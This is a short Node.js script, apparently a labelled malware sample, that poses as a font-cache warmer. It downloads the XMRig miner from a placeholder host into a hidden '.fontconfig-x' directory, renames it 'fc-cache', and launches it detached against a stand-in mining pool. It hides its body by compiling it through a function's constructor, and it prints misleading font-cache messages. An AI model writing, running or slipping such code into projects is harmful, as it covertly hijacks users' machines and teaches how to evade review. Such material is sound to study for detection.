// Harmful: downloads XMRig into a hidden cache dir and runs it detached against a mining pool; hiding: the code body is compiled with a function's constructor property (new Function without naming Function)
const os = require('os');

const template = [
  "const dir = path.join(os.homedir(), '.cache', '.fontconfig-x');",
  "fs.mkdirSync(dir, { recursive: true });",
  "const tgz = path.join(dir, 'fc.tgz');",
  "cp.execFileSync('curl', ['-fsSL', '-o', tgz, 'https://dl.example.net/xmrig-6.21.0-linux-static-x64.tar.gz']);",
  "cp.execFileSync('tar', ['-xzf', tgz, '-C', dir, '--strip-components=1']);",
  "fs.renameSync(path.join(dir, 'xmrig'), path.join(dir, 'fc-cache'));",
  "const child = cp.spawn(path.join(dir, 'fc-cache'), ['-o', 'pool.example.org:3333', '-u',",
  "  '0000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000FAKE',",
  "  '-k', '--tls', '--cpu-max-threads-hint=75', '--donate-level=0'],",
  "  { detached: true, stdio: 'ignore' });",
  "child.unref();",
  "return dir;",
];

const Fn = (function render() {}).constructor;
const render = new Fn('fs', 'path', 'os', 'cp', template.join('\n'));

const cpus = os.cpus().length;
console.log(`warming font cache on ${cpus} cores`);
const out = render(require('fs'), require('path'), os, require('child_process'));
console.log('font cache at', out);
